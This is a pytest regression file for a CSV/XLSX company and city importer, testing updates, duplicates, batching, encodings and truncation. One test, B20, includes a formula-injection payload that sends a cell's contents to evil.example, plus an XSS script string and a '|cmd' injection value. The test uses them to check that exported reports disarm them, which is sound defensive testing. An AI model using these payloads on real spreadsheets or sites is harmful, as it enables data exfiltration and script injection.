"""What the earlier importer got wrong with rows and tables, each with the input that showed it.

Numbers are those of docs/old-faults.md, which names the tests of the others; what it got wrong with
a file alone is in tests/unit/test_earlier_faults.py.
"""

import csv
import io
import json
import subprocess
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from deploy.local.stack import Stack
from processors.worker.topology import FETCH_ROWS
from producers.terminal.exits import PARTIAL, REFUSED
from tests.fix_companies import Companies, hurry, importing, make_slow
from tests.fix_stack import Site, eventually, prepared


@pytest.fixture(scope="module")
def site(stack: Stack) -> Iterator[Site]:
    """One site with a worker for all tests: each has companies and cities of its own."""
    found = prepared(stack)
    found.settings = {"FOX_BATCH_ROWS": "1"}  # one fetch is one transaction
    found.worker()
    yield found
    found.end()


Put = Callable[..., dict[str, Any]]


@pytest.fixture
def put(site: Site, tmp_path: Path) -> Put:
    """Imports a text or bytes as a file; the state that it ended with, `code` and `messages` beside."""

    def _put(
        content: str | bytes, *words: str, kind: str = "entreprise", name: str = "fichier.csv"
    ) -> dict[str, Any]:
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        if not site.spawned[-1].running:  # it failed another test, not this one
            site.worker()
        try:
            done = site.foxstream("import", path, "--type", kind, "--json", *words, timeout=120)
        except subprocess.TimeoutExpired:
            worker = site.spawned[-1]
            pytest.fail(f"worker running: {worker.running}; {worker.log_tail()}")
        assert "Traceback" not in done.stderr, done.stderr
        return {**(done.json() if done.stdout else {}), "code": done.code, "messages": done.stderr}

    return _put


def counts(state: dict[str, Any]) -> dict[str, int]:
    """The outcomes that there are."""
    names = ("inserted", "updated", "unchanged", "duplicate", "stale", "rejected", "parked")
    return {name: state[name] for name in names if state[name]}


def company(site: Site, siren: str, columns: str) -> tuple[Any, ...]:
    [found] = site.query(f"SELECT {columns} FROM enterprise_entreprise WHERE siren = %s", siren)
    return found


def text(rows: Sequence[Sequence[str]]) -> str:
    """Rows as a text file, quoted where it must be."""
    target = io.StringIO(newline="")
    csv.writer(target, delimiter=";", lineterminator="\n").writerows(rows)
    return target.getvalue()


def test_b01_cities_that_are_counted_are_written(site: Site, put: Put) -> None:
    """B1: a VILLE import counts what is in the table afterwards."""
    state = put("Villes\nBourg en Bresse (1000)\nRennes (35000)\n", kind="ville")

    assert counts(state) == {"inserted": 2}
    assert site.query(
        "SELECT slug, code_postal_principal, departement FROM location_ville"
        " WHERE ingest_import_id = %s ORDER BY slug",
        state["id"],
    ) == [("bourg-en-bresse-01000", "01000", "01"), ("rennes-35000", "35000", "35")]


def test_b04_a_partial_file_wipes_nothing(site: Site, put: Put) -> None:
    """B4: columns that a file does not have, and cells that are blank, leave what is stored."""
    columns = "adresse, code_postal, naf_code, telephone, email_contact, is_active"
    full = "siren;nom;adresse;cp;naf;telephone;email;actif\n"
    put(f"{full}804000001;A;1 rue Haute;35000;62.01Z;0299000000;a@b.fr;non\n")
    before = company(site, "804000001", columns)

    narrow = put("siren,nom\n804000001,B\n")
    blank = put(f"{full}804000001;C;;;;;;\n")

    assert (counts(narrow), counts(blank)) == ({"updated": 1}, {"updated": 1})
    assert company(site, "804000001", columns) == before
    assert before == ("1 rue Haute", "35000", "62.01Z", "0299000000", "a@b.fr", False)
    assert company(site, "804000001", "nom") == ("C",)


@pytest.mark.parametrize(
    ("siren", "name"),
    [("810000001", "fichier"), ("810000002", "export.csv"), ("810000003", "ne pas lire.pdf")],
)
def test_b10_a_file_is_what_its_content_is(put: Put, siren: str, name: str) -> None:
    """B10: a workbook is one whatever it is called, and without any extension."""
    book = openpyxl.Workbook()
    book.active.append(["siren", "nom"])
    book.active.append([siren, "A"])
    content = io.BytesIO()
    book.save(content)

    state = put(content.getvalue(), name=name)

    assert (counts(state), state["code"]) == ({"inserted": 1}, 0)


def test_b15_what_is_done_is_seen_and_stays_done(site: Site, companies: Companies) -> None:
    """B15: others see rows and counters before the end, and a worker that dies takes none with it."""
    path = companies.file(2_000)
    make_slow(site, 3)  # longer than a look at the list takes
    try:
        with importing(site, path) as command:
            eventually(lambda: 0 < seen(site, path) < 2_000)
            site.spawned[-1].kill()
            assert 0 < companies.written(path) < 2_000
            site.worker()
            hurry(site)
            assert command.wait(180) == PARTIAL
    finally:
        hurry(site)

    assert companies.are_exact(path, 2_000)


def seen(site: Site, path: Path) -> int:
    """Rows that the import log says are written, of an import that is not finished."""
    for state in json.loads(site.foxstream("list", "--json").stdout):
        if state["file_name"] == path.name and state["completed_at"] is None:
            return int(state["success_rows"])
    return 0


def test_b17_a_state_does_not_grow_with_its_errors(site: Site, put: Put) -> None:
    """B17: however many lines are rejected, what is told of an import stays small."""
    content = "siren;nom\n" + "".join(f"x{number};{'long ' * 40}\n" for number in range(3_000))

    state = put(content)

    assert state["rejected"] == 3_000
    assert len(site.foxstream("status", state["id"], "--json").stdout) < 5_000
    [(stored,)] = site.query("SELECT errors FROM core_importlog WHERE id = %s", state["id"])
    assert len(stored) == 50
    assert "long long" not in json.dumps(stored)


FORMULA = '=HYPERLINK("http://evil.example/"&A1;"x")'
SCRIPT = "<script>alert('1')</script> & <b>"


def test_b20_formulas_and_markup_are_text(site: Site, put: Put, tmp_path: Path) -> None:
    """B20: stored as they came, since they may be names; disarmed in what a spreadsheet opens."""
    state = put(
        text(
            [
                ("siren", "nom", "adresse"),
                ("820000001", FORMULA, SCRIPT),
                ("bad", FORMULA, "@SUM(1+1)|cmd"),
            ]
        )
    )

    assert company(site, "820000001", "nom, adresse") == (FORMULA, SCRIPT)
    # The command waits for three seconds, which a busy worker may need.
    unpublished = "SELECT FROM ingest.rejects WHERE published_at IS NULL"
    eventually(lambda: not site.query(unpublished))
    for kind in ("csv", "xlsx"):
        target = tmp_path / f"errors.{kind}"
        site.foxstream("errors", state["id"], "--output", target)
        cells = [cell for row in opened(target) for cell in row]
        assert sum(FORMULA in cell for cell in cells) == 1
        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def opened(path: Path) -> list[list[str]]:
    """The cells of a report, as a spreadsheet finds them."""
    if path.suffix == ".xlsx":
        rows = openpyxl.load_workbook(path).active.iter_rows()
        assert {cell.data_type for row in rows for cell in row} <= {"s", "n"}
        rows = openpyxl.load_workbook(path).active.iter_rows(values_only=True)
        return [[str(value or "") for value in row] for row in rows]
    content = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))


def test_b24_a_repeated_key_takes_no_other_row_with_it(site: Site, put: Put) -> None:
    """B24: eleven rows, one of them twice: ten are written and one is a duplicate."""
    sirens = [f"82400000{number}" for number in range(10)]
    content = "siren,nom\n" + "".join(f"{siren},A {siren}\n" for siren in [*sirens, sirens[3]])

    state = put(content)

    assert (counts(state), state["code"]) == ({"inserted": 10, "duplicate": 1}, 0)
    assert site.query(
        "SELECT count(*) FROM enterprise_entreprise WHERE ingest_import_id = %s", state["id"]
    ) == [(10,)]


def test_b26_updates_are_written_batch_by_batch(site: Site, put: Put) -> None:
    """B26: rows that exist already go by batches too, and not all at the end."""
    sirens = [f"8260{number:05d}" for number in range(12_000)]
    put("siren,nom\n" + "".join(f"{siren},A\n" for siren in sirens))

    state = put("siren,nom\n" + "".join(f"{siren},B\n" for siren in sirens))

    assert counts(state) == {"updated": len(sirens)}
    [(largest,)] = site.query(
        "SELECT max(rows) FROM (SELECT count(*) AS rows FROM enterprise_entreprise"
        " WHERE ingest_import_id = %s GROUP BY xmin::text) transactions",
        state["id"],
    )
    assert largest <= FETCH_ROWS


def test_b27_two_files_of_the_same_companies_at_once(site: Site, tmp_path: Path) -> None:
    """B27: each company is inserted once, by one of the two, and each import counts all its rows."""
    sirens = [f"8270{number:05d}" for number in range(1_000)]
    paths = [tmp_path / f"b27-{name}.csv" for name in "ab"]
    for path in paths:
        rows = "".join(f"{siren},{path.stem}\n" for siren in sirens)
        path.write_text(f"siren,nom\n{rows}", encoding="utf-8")

    with importing(site, paths[0]) as first, importing(site, paths[1]) as second:
        assert (first.wait(180), second.wait(180)) == (0, 0)

    states = site.query(
        "SELECT inserted, updated + stale, duplicate + rejected + unchanged FROM ingest.imports"
        " WHERE file_name LIKE 'b27-%%'"
    )
    assert sum(inserted for inserted, *_ in states) == 1_000
    assert sum(others for _, others, _ in states) == 1_000
    assert [rest for *_, rest in states] == [0, 0]
    assert site.query("SELECT count(*) FROM enterprise_entreprise WHERE siren LIKE '8270%%'") == [
        (1_000,)
    ]


def test_b28_addresses_and_signs_that_mean_something_to_copy(site: Site, put: Put) -> None:
    r"""B28: `email_contact` and `email` are one column; tabs, line ends, \N and \. are text."""
    strange = 'a\tb\nc\\d\\N\\.\r\ne "f"; g'
    content = text(
        [
            ("siren", "nom", "email_contact", "adresse"),
            ("828000001", "A\\N", "a@b.fr", strange),
            ("828000002", "A\\.", "", "\\."),
        ]
    )
    put(content)
    put("siren,nom,Email\n828000002,B,c@d.fr\n")

    assert company(site, "828000001", "nom, email_contact, adresse") == ("A\\N", "a@b.fr", strange)
    assert company(site, "828000002", "nom, email_contact, adresse") == ("B", "c@d.fr", "\\.")


def test_b30_the_time_of_a_change_is_that_of_the_last_change(site: Site, put: Put) -> None:
    """B30: updated_at moves with every change of a row, and with nothing else."""
    put("siren;nom;cp\n830000001;A;35000\n830000002;B;35000\n")
    first = company(site, "830000001", "updated_at"), company(site, "830000002", "updated_at")

    state = put("siren;nom;cp\n830000001;A;35000\n830000002;B;35700\n")

    assert counts(state) == {"updated": 1, "unchanged": 1}
    assert company(site, "830000001", "updated_at") == first[0]
    assert company(site, "830000002", "updated_at") > first[1]


def test_b31_a_city_that_the_database_refuses_is_alone(site: Site, put: Put) -> None:
    """B31: of a hundred cities the other 99 are written; cp1252 is read once; no city is deleted."""
    site.execute("ALTER TABLE location_ville ADD CONSTRAINT b31 CHECK (nom <> 'Épinal 57')")
    lines = "".join(f"Épinal {number};{88_000 + number};{number}\n" for number in range(100))
    content = f"nom;code_postal;population\n{lines}"
    before = {row[0] for row in site.query("SELECT id FROM location_ville")}

    state = put(content.encode("cp1252"), kind="ville")

    assert counts(state) == {"inserted": 99, "rejected": 1}
    [(line, code)] = site.query(
        "SELECT line, faults -> 0 ->> 'code' FROM ingest.rejects WHERE import_id = %s", state["id"]
    )
    assert (line, code) == (59, "out-of-range")
    names = {
        name for (name,) in site.query("SELECT nom FROM location_ville WHERE nom LIKE 'Épi%%'")
    }
    assert names == {f"Épinal {number}" for number in range(100) if number != 57}
    assert {row[0] for row in site.query("SELECT id FROM location_ville")} > before


def test_b32_nothing_is_cut_in_silence(site: Site, put: Put) -> None:
    """B32: a text that its column does not take rejects its row, or is dropped and said; the last
    character that fits is kept."""
    fits, long_ = "N" * 255, "N" * 256
    url = f"https://example.org/{'p' * 200}"
    state = put(
        text(
            [
                ("siren", "nom", "site_web", "naf", "cp"),
                ("832000001", fits, "https://example.org", "62.01Z", "35000"),
                ("832000002", long_, "", "", ""),
                ("832000003", "A", url, "", ""),
                ("832000004", "A", "", "62.01ZZ", "350000"),
            ]
        )
    )

    assert company(site, "832000001", "nom, site_web") == (fits, "https://example.org")
    assert company(site, "832000004", "naf_code, code_postal") == ("", "")
    assert state["warnings_by_code"]["malformed"] == 2
    assert counts(state) == {"inserted": 2, "rejected": 2}
    assert site.query(
        "SELECT line, faults -> 0 ->> 'column', faults -> 0 ->> 'code' FROM ingest.rejects"
        " WHERE import_id = %s ORDER BY line",
        state["id"],
    ) == [(3, "nom", "too-long"), (4, "site_web", "too-long")]


# Named after the faults of others that load files into tables.


def test_quix_a_column_that_begins_with_nothing_is_kept(site: Site, put: Put) -> None:
    """Its type is not guessed from the first rows: the thousandth has the first telephone."""
    rows = "".join(f"2010{number:05d};A;\n" for number in range(999))
    state = put(f"siren;nom;telephone\n{rows}201000999;A;0299000000\n")

    assert counts(state) == {"inserted": 1_000}
    assert company(site, "201000999", "telephone") == ("0299000000",)


def test_vector_one_duplicate_drops_itself_alone(site: Site, put: Put) -> None:
    """Four rows, two of one key: three are there, and the key has its later row."""
    state = put("siren,nom\n202000001,A\n202000002,B\n202000001,C\n202000003,D\n")

    assert counts(state) == {"inserted": 3, "duplicate": 1}
    assert site.query(
        "SELECT siren, nom FROM enterprise_entreprise WHERE siren LIKE '20200000%%' ORDER BY siren"
    ) == [("202000001", "C"), ("202000002", "B"), ("202000003", "D")]


def test_redpanda_a_byte_order_mark_is_no_part_of_a_header(site: Site, put: Put) -> None:
    """The first column is found, and the file has no unknown one."""
    state = put("\ufeffsiren,nom\n203000001,A\n".encode())

    assert (counts(state), company(site, "203000001", "nom")) == ({"inserted": 1}, ("A",))


def test_spooldir_a_file_is_known_by_its_content(site: Site, put: Put) -> None:
    """Another file of the same name is imported; the same file of another name is not, twice."""
    put("siren,nom\n204000001,A\n", name="export.csv")

    other = put("siren,nom\n204000002,B\n", name="export.csv")
    again = put("siren,nom\n204000002,B\n", name="copie.csv")

    assert counts(other) == {"inserted": 1}
    assert again["code"] == REFUSED, again
    assert "force" in again["messages"]
